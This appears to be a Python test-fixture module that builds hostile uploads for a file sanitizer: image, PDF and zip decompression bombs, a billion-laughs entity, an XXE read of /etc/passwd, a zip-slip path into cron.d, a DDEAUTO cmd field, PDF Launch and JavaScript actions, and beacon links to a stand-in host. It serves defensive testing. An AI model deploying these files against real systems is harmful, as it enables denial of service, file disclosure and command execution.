"""Files that somebody means us harm with, or that tell on whoever sent them; built here, so that all can read how."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image, ImageCms, PngImagePlugin

CANARY = "CANARY-7f3a91"
SEEN = "What the page shows"
MARK = CANARY.encode()


@dataclass(frozen=True)
class Hostile:
    """One file: what it is called, how it is made, and the code it is refused with; empty: it is cleaned."""

    name: str
    build: Callable[[], bytes]
    refused: str = ""


# --- pictures ------------------------------------------------------------------------------------


def picture(form: str = "PNG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **how: object) -> bytes:
    file = BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(file, form, **how)
    return file.getvalue()


def exif() -> bytes:
    notes = Image.Exif()
    notes[0x010F] = CANARY
    notes[0x0112] = 6
    notes.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 0.0), 3: "E", 4: (0.0, 7.0, 0.0), 29: CANARY})
    return notes.tobytes()


def png_notes() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", CANARY)
    notes.add_text("Comment", CANARY, zip=True)
    notes.add_itxt("XML:com.adobe.xmp", f"<x>{CANARY}</x>")
    notes.add(b"prVt", MARK)
    return picture(pnginfo=notes)


def profile() -> bytes:
    """A colour profile that works, with words of its own appended."""
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + MARK


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def swelling(megabytes: int) -> bytes:
    """Zeros, packed as zlib does; what was packed once is repeated, so that a gigabyte takes no time to make."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    check = (megabytes * 1_000_000 % 65521) << 16 | 1
    return head + block * megabytes + b"\x03\x00" + struct.pack(">I", check)


def png_bomb(side: int = 30_000) -> bytes:
    """One colour: a hundred megabytes and more in the file's own count, a gigabyte as pixels."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    packed = chunk(b"IDAT", swelling((1 + side // 8) * side // 1_000_000 + 1))
    return b"\x89PNG\r\n\x1a\n" + head + packed + chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A small picture with a note that unpacks to 200 MB."""
    plain = picture()
    return plain[:33] + chunk(b"zTXt", b"Comment\0\0" + swelling(200)) + plain[33:]


def moving(form: str) -> bytes:
    file = BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green")]
    frames[0].save(file, form, save_all=True, append_images=frames[1:])
    return file.getvalue()


def zipped(parts: dict[str, bytes]) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return file.getvalue()


# --- PDF -----------------------------------------------------------------------------------------


def pdf(change: Callable[[Pdf], object] = id, pages: int = 1, **how: object) -> bytes:
    with Pdf.new() as made:
        font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        for _ in range(pages):
            made.add_blank_page(page_size=(200, 200))
            page = made.pages[-1]
            page.Resources = Dictionary(Font={"/F": font})
            page.Contents = made.make_stream(b"BT /F 12 Tf 20 100 Td (" + SEEN.encode() + b") Tj ET")
        change(made)
        file = BytesIO()
        made.save(file, **how)
        return file.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=f"app.alert('{CANARY}')")


def with_named_script(made: Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([CANARY, made.make_indirect(script())])))


def with_start_script(made: Pdf) -> None:
    made.Root.OpenAction = script()
    made.Root.AA = Dictionary(WC=script())
    made.pages[0].AA = Dictionary(O=script())


def with_link(action: Dictionary) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=action, Contents=CANARY)
        made.pages[0].Annots = Array([made.make_indirect(link)])

    return change


def with_attachment(made: Pdf) -> None:
    made.attachments["evil.exe"] = pikepdf.AttachedFileSpec(made, MARK, description=CANARY, filename="evil.exe")
    stuck = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), Contents=CANARY)
    stuck.FS = made.attachments["evil.exe"].obj
    made.pages[0].Annots = Array([made.make_indirect(stuck)])


def with_form(made: Pdf) -> None:
    """A field that was filled in, with a button that sends it away and a second form (XFA) behind the first."""
    look = made.make_stream(b"BT /F 9 Tf (Filled in) Tj ET", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 90, 20])
    look.Resources = made.pages[0].Resources
    sends = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=f"http://{CANARY}.test/"))
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=CANARY, V="Filled in", Rect=Array([10, 10, 100, 30]),
            AP=Dictionary(N=look), A=sends, AA=Dictionary(K=script()), F=4,
        )
    )  # fmt: skip
    made.pages[0].Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=made.make_stream(b"<xdp>" + MARK + b"</xdp>"))


def with_media(made: Pdf) -> None:
    asset = made.make_stream(MARK)
    rich = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=asset)
    solid = Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=Array([0, 0, 9, 9]), Contents=CANARY)
    solid["/3DD"] = made.make_stream(MARK)
    made.pages[0].Annots = Array([made.make_indirect(rich), made.make_indirect(solid)])


def with_metadata(made: Pdf) -> None:
    made.docinfo["/Author"] = CANARY
    for holder in (made.Root, made.pages[0].obj):
        holder.Metadata = made.make_stream(b"<x:xmpmeta>" + MARK + b"</x:xmpmeta>", Type=Name.Metadata)
    made.pages[0].PieceInfo = Dictionary(App=Dictionary(Private=CANARY))
    made.pages[0].Thumb = made.make_stream(MARK)


def with_names(made: Pdf) -> None:
    there = Array([made.pages[0].obj, Name.Fit])
    made.Root.Names = Dictionary(Dests=Dictionary(Names=Array([CANARY, there])))
    made.Root.Dests = Dictionary({f"/{CANARY}": there})
    made.Root.Outlines = Dictionary(Title=CANARY)
    made.Root.Lang = CANARY
    made.Root.OCProperties = Dictionary(OCGs=Array([made.make_indirect(Dictionary(Type=Name.OCG, Name=CANARY))]))


def with_hidden_places(made: Pdf) -> None:
    """What draws the page, used to carry what does not draw."""
    page = made.pages[0]
    page.Resources.Properties = Dictionary(MC0=Dictionary(Note=CANARY))
    page.Resources.Font["/JS"] = pikepdf.String(CANARY)
    page.Resources.XObject = Dictionary(
        A=made.make_stream(
            b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], AF=[made.make_stream(MARK)],
            Metadata=made.make_stream(MARK), Ref=Dictionary(F=CANARY), OC=Dictionary(Name=CANARY), Odd=CANARY,
        ),
        B=made.make_indirect(made.Root),
        C=made.make_indirect(Dictionary(Type=Name.Filespec, F=CANARY, EF=Dictionary(F=made.make_stream(MARK)))),
    )  # fmt: skip
    made.Root.OpenAction = script()


def with_photograph(made: Pdf) -> None:
    """As scanners and phones make them: the JPEG with all its notes, in a PDF."""
    notes = picture("JPEG", exif=exif(), comment=MARK) + MARK
    photograph = made.make_stream(
        notes, Type=Name.XObject, Subtype=Name.Image, Width=60, Height=40, ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8, Filter=Name.DCTDecode,
    )  # fmt: skip
    made.pages[0].Resources.XObject = Dictionary(Photo=photograph)


def with_depth(made: Pdf) -> None:
    deep = Array([])
    for _ in range(400):
        deep = Array([made.make_indirect(deep)])
    made.pages[0].Resources.ColorSpace = Dictionary(Deep=made.make_indirect(deep))


def with_crowd(made: Pdf) -> None:
    made.Root.Crowd = Array([made.make_indirect(Dictionary(N=number)) for number in range(100_001)])


def pdf_bomb() -> bytes:
    """Every object lies in a stream that unpacks to 2 GB."""
    with Pdf.open(BytesIO(pdf())) as made:
        made.Root.Packed = made.make_stream(b"")
        made.Root.Packed.write(swelling(2000), filter=Name.FlateDecode)
        made.Root.Packed.Type, made.Root.Packed.N, made.Root.Packed.First = Name.ObjStm, 1, 10
        number = made.Root.Packed.objgen[0]
        file = BytesIO()
        made.save(file, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return _pointing_into(file.getvalue(), number)


def _pointing_into(plain: bytes, number: int) -> bytes:
    """The same file with a table (an xref stream) that looks for its catalogue in that stream."""
    with Pdf.open(BytesIO(plain)) as made:
        (packed,) = [each for each in made.objects if isinstance(each, pikepdf.Stream) and each.get("/N") == 1]
        number = packed.objgen[0]
    place = plain.index(f"{number} 0 obj".encode())
    rows = bytes(7) + b"\x02" + struct.pack(">IH", number, 0) + b"\x01" + struct.pack(">IH", place, 0)
    table = (
        f"99 0 obj\n<</Type/XRef/Size 100/W[1 4 2]/Root 1 0 R/Index[0 2 {number} 1]/Length {len(rows)}>>stream\n"
    ).encode()
    return plain + table + rows + b"\nendstream\nendobj\nstartxref\n" + str(len(plain)).encode() + b"\n%%EOF\n"


def pdf_without_end() -> bytes:
    """A page whose text unpacks twice, to hours of work: no memory, only time."""

    def change(made: Pdf) -> None:
        made.pages[0].Contents = made.make_stream(zlib.compress(swelling(40_000), 9))
        made.pages[0].Contents.Filter = Array([Name.FlateDecode, Name.FlateDecode])

    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


# --- Word ----------------------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
MAIN = f"{WORD}document.main+xml"


def relations(*rows: tuple[str, str, str]) -> bytes:
    """Kind, target, mode; their ids are rId1, rId2..."""
    lines = "".join(
        f'<Relationship Id="rId{number}" Type="{R}/{kind}" Target="{target}"{mode and f' TargetMode="{mode}"'}/>'
        for number, (kind, target, mode) in enumerate(rows, 1)
    )
    return f'<Relationships xmlns="{RELATIONS}">{lines}</Relationships>'.encode()


def docx(body: str = "", main: str = MAIN, declared: str = "", head: str = "", **parts: bytes) -> bytes:
    """A document that shows SEEN; `parts` by name with __ for / and _ for a dot."""
    text = f"<w:p><w:r><w:t>{SEEN}</w:t></w:r></w:p>{body}"
    types = (
        f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        f'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="jpg" '
        f'ContentType="image/jpeg"/><Override PartName="/word/document.xml" ContentType="{main}"/>{declared}</Types>'
    )
    whole = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": (
            f'{head}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{text}</w:body></w:document>'.encode()
        ),
    }
    return zipped(whole | parts)


RELS = "word/_rels/document.xml.rels"


def linked(body: str, *rows: tuple[str, str, str], **parts: bytes) -> bytes:
    return docx(body, **{RELS: relations(*rows)}, **parts)


def docx_with_everything_that_tells() -> bytes:
    body = (
        f"<!-- {CANARY} --><?note {CANARY}?>"
        f'<w:p w:rsidR="{CANARY}"><w:ins w:author="{CANARY}" w:date="2026-01-01T00:00:00Z">'
        "<w:r><w:t>new</w:t></w:r></w:ins></w:p>"
        '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>'
    )
    settings = (
        f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/><w:rsids><w:rsid w:val="{CANARY}"/>'
        '</w:rsids><w:compat><w:compatSetting w:name="compatibilityMode" w:uri="u" w:val="15"/></w:compat></w:settings>'
    )
    parts = {
        "docProps/core.xml": MARK,
        "docProps/app.xml": MARK,
        "customXml/item1.xml": MARK,
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": relations(("attachedTemplate", f"http://{CANARY}.test/t.dotm", "External")),
    }
    rows = [("settings", "settings.xml", ""), ("customXml", "../customXml/item1.xml", "")]
    return linked(body, *rows, ("hyperlink", f"file:///c:/{CANARY}.exe", "External"), **parts)


def docx_with_pictures() -> bytes:
    """One with the place it was taken at, one that is fetched from a server which then knows who reads."""
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    body = "".join(
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{a}" r:{how}="rId{number}"/></w:drawing></w:r></w:p>'
        for how, number in (("embed", 1), ("link", 2), ("embed", 3))
    )
    parts = {
        "word/media/image1.jpg": picture("JPEG", exif=exif(), comment=MARK),
        "word/media/image3.svg": f"<svg><script>{CANARY}</script></svg>".encode(),
    }
    rows = [("image", "media/image1.jpg", ""), ("image", f"http://{CANARY}.test/a.png", "External")]
    return linked(body, *rows, ("image", "media/image3.svg", ""), **parts)


def docx_with_fields() -> bytes:
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
        f'<w:r><w:instrText>EAUTO cmd "/k {CANARY}"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>12</w:t></w:r>'
        f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr="INCLUDETEXT {CANARY}"><w:r>'
        "<w:t>34</w:t></w:r></w:fldSimple></w:p>"
    )
    return docx(body)


def billion_laughs() -> bytes:
    rows = ['<!ENTITY a0 "ha">', *(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))]
    return docx("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", head=f"<!DOCTYPE d [{''.join(rows)}]>")


def zip_that_lies() -> bytes:
    """It says that a part has ten letters, and unpacks to a hundred thousand."""
    whole = docx(**{"word/styles.xml": bytes(100_000), RELS: relations(("styles", "styles.xml", ""))})
    return whole.replace(struct.pack("<I", 100_000), struct.pack("<I", 10))


# --- all of them ---------------------------------------------------------------------------------

SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
EXE = b"MZ\x90\x00" + b"\0" * 60 + b"PE\0\0" + b"\0" * 2000
LAUNCH = Dictionary(S=Name.Launch, F="cmd.exe", Win=Dictionary(P=CANARY))


def link_to(address: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=address)


UPLOADS: dict[str, Hostile] = {
    "nothing": Hostile("empty.pdf", lambda: b"", "empty"),
    "26 MB": Hostile("large.pdf", lambda: pdf() + bytes(26 * 1024 * 1024), "too_large"),
    "svg with script": Hostile("a.svg", lambda: SVG, "unknown"),
    "svg called png": Hostile("a.png", lambda: SVG, "unknown"),
    "html called pdf": Hostile("a.pdf", lambda: b"<html><script>1</script></html>", "unknown"),
    "html that names a pdf": Hostile("a.pdf", lambda: b"<html>%PDF-1.7<script>1</script></html>", "damaged"),
    "exe called pdf": Hostile("a.pdf", lambda: EXE, "unknown"),
    "gif": Hostile("a.gif", lambda: picture("GIF", mode="P"), "unknown"),
    "tiff": Hostile("a.tif", lambda: picture("TIFF"), "unknown"),
    "bmp": Hostile("a.bmp", lambda: picture("BMP"), "unknown"),
    "heic": Hostile("a.heic", lambda: b"\0\0\0\x18ftypheic" + bytes(400), "unknown"),
    "old word": Hostile("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "unknown"),
    "plain zip": Hostile("a.docx", lambda: zipped({"a.txt": b"a"}), "unknown"),
    "png magic over html": Hostile("a.png", lambda: b"\x89PNG\r\n\x1a\n<html>", "damaged"),
    "jpeg magic over junk": Hostile("a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(500), "damaged"),
    "webp magic over junk": Hostile("a.webp", lambda: b"RIFF\x20\0\0\0WEBPVP8 " + bytes(50), "damaged"),
    "pdf magic over junk": Hostile("a.pdf", lambda: b"%PDF-1.7\n" + bytes(500), "damaged"),
    "zip magic over junk": Hostile("a.docx", lambda: b"PK\x03\x04" + bytes(500), "damaged"),
    "png called pdf": Hostile("scan.pdf", picture),
    "jpeg with place": Hostile("IMG.jpg", lambda: picture("JPEG", exif=exif())),
    "webp with place": Hostile("IMG.webp", lambda: picture("WEBP", exif=exif(), xmp=MARK)),
    "png with place": Hostile("IMG.png", lambda: picture(exif=exif())),
    "jpeg with xmp and comment": Hostile("a.jpg", lambda: picture("JPEG", xmp=b"<x>" + MARK, comment=MARK)),
    "png with notes": Hostile("a.png", png_notes),
    "jpeg with odd profile": Hostile("a.jpg", lambda: picture("JPEG", icc_profile=profile())),
    "png with broken profile": Hostile("a.png", lambda: picture(icc_profile=MARK * 40)),
    "jpeg with broken notes": Hostile("a.jpg", lambda: picture("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\xff\xff" + MARK)),
    "jpeg and zip": Hostile("a.jpg", lambda: picture("JPEG") + zipped({CANARY: MARK})),
    "png and html": Hostile("a.png", lambda: picture() + b"<script>" + MARK + b"</script>"),
    "webp with tail": Hostile("a.webp", lambda: picture("WEBP") + MARK),
    "many pictures in a jpeg": Hostile("a.jpg", lambda: moving("MPO") + MARK),
    "png bomb": Hostile("a.png", png_bomb, "too_many_pixels"),
    "png of 41 million pixels": Hostile("a.png", lambda: png_bomb(6_410), "too_many_pixels"),
    "png note bomb": Hostile("a.png", png_text_bomb, "damaged"),
    "moving webp": Hostile("a.webp", lambda: moving("WEBP"), "animated"),
    "moving png": Hostile("a.png", lambda: moving("PNG"), "animated"),
    "half a png": Hostile("a.png", lambda: picture(size=(600, 400))[:900], "damaged"),
    "half a jpeg": Hostile("a.jpg", lambda: picture("JPEG", size=(600, 400))[:2500], "damaged"),
    "pdf with named script": Hostile("a.pdf", lambda: pdf(with_named_script)),
    "pdf with scripts at start": Hostile("a.pdf", lambda: pdf(with_start_script)),
    "pdf that launches": Hostile("a.pdf", lambda: pdf(with_link(LAUNCH))),
    "pdf that imports data": Hostile("a.pdf", lambda: pdf(with_link(Dictionary(S=Name.ImportData, F=CANARY)))),
    "pdf that goes elsewhere": Hostile("a.pdf", lambda: pdf(with_link(Dictionary(S=Name.GoToR, F=CANARY, D=[0])))),
    "pdf with file link": Hostile("a.pdf", lambda: pdf(with_link(link_to(f"file:///etc/{CANARY}")))),
    "pdf with script link": Hostile("a.pdf", lambda: pdf(with_link(link_to(f"javascript:{CANARY}")))),
    "pdf with attachment": Hostile("a.pdf", lambda: pdf(with_attachment)),
    "pdf with forms": Hostile("a.pdf", lambda: pdf(with_form)),
    "pdf with media": Hostile("a.pdf", lambda: pdf(with_media)),
    "pdf with metadata": Hostile("a.pdf", lambda: pdf(with_metadata)),
    "pdf with hidden places": Hostile("a.pdf", lambda: pdf(with_hidden_places)),
    "pdf with names": Hostile("a.pdf", lambda: pdf(with_names)),
    "pdf with photograph": Hostile("a.pdf", lambda: pdf(with_photograph)),
    "pdf with depth": Hostile("a.pdf", lambda: pdf(with_depth)),
    "pdf after junk": Hostile("a.pdf", lambda: MARK + b"\n" + pdf()),
    "pdf and zip": Hostile("a.pdf", lambda: pdf() + zipped({CANARY: MARK})),
    "pdf with 100000 objects": Hostile("a.pdf", lambda: pdf(with_crowd), "too_heavy"),
    "pdf with 501 pages": Hostile("a.pdf", lambda: pdf(pages=501), "too_many_pages"),
    "pdf bomb": Hostile("a.pdf", pdf_bomb, "damaged"),
    "pdf without end": Hostile("a.pdf", pdf_without_end, "too_heavy"),
    "pdf that needs a password": Hostile(
        "a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "locked"
    ),
    "pdf that forbids": Hostile("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), "locked"),
    "half a pdf": Hostile("a.pdf", lambda: pdf(pages=9)[:-600], "damaged"),
    "docx that tells": Hostile("a.docx", docx_with_everything_that_tells),
    "docx with pictures": Hostile("a.docx", docx_with_pictures),
    "docx with fields": Hostile("a.docx", docx_with_fields),
    "docx and more": Hostile("a.docx", lambda: docx(**{f"{CANARY}.exe": MARK})),
    "docx with other text": Hostile(
        "a.docx",
        lambda: linked('<w:altChunk r:id="rId1"/>', ("aFChunk", "a.html", ""), **{"word/a.html": MARK}),
        "embedded",
    ),
    "docx with object": Hostile(
        "a.docx", lambda: linked("", ("oleObject", "o.bin", ""), **{"word/o.bin": MARK}), "embedded"
    ),
    "docx with macro": Hostile("a.docx", lambda: docx(**{"word/vbaProject.bin": MARK}), "macros"),
    "docm called docx": Hostile(
        "a.docx", lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"
    ),
    "template called docx": Hostile("a.docx", lambda: docx(main=f"{WORD}template.main+xml"), "unknown"),
    "docx of laughs": Hostile("a.docx", billion_laughs, "damaged"),
    "docx with outer entity": Hostile(
        "a.docx", lambda: docx("&x;", head='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "damaged"
    ),
    "docx of a thousand floors": Hostile("a.docx", lambda: docx("<w:p>" * 1000 + "</w:p>" * 1000), "damaged"),
    "docx that climbs": Hostile("a.docx", lambda: docx(**{"../../etc/cron.d/a": MARK}), "damaged"),
    "docx with root path": Hostile("a.docx", lambda: docx(**{"/etc/a": MARK}), "damaged"),
    "docx with backslashes": Hostile("a.docx", lambda: docx(**{"word\\..\\a": MARK}), "damaged"),
    "docx bomb": Hostile("a.docx", lambda: docx(**{"word/a.xml": bytes(101 * 1024 * 1024)}), "swells"),
    "smaller docx bomb": Hostile("a.docx", lambda: docx(**{"word/a.xml": bytes(20 * 1024 * 1024)}), "swells"),
    "docx of 2001 parts": Hostile("a.docx", lambda: docx(**{f"word/a{n}.xml": b"" for n in range(2000)}), "swells"),
    "docx that lies": Hostile("a.docx", zip_that_lies, "damaged"),
    "docx twice the text": Hostile("a.docx", lambda: docx(**{"WORD/document.xml": MARK}), "damaged"),
}
CLEANED = {title: upload for title, upload in UPLOADS.items() if not upload.refused}
REFUSED = {title: upload for title, upload in UPLOADS.items() if upload.refused}
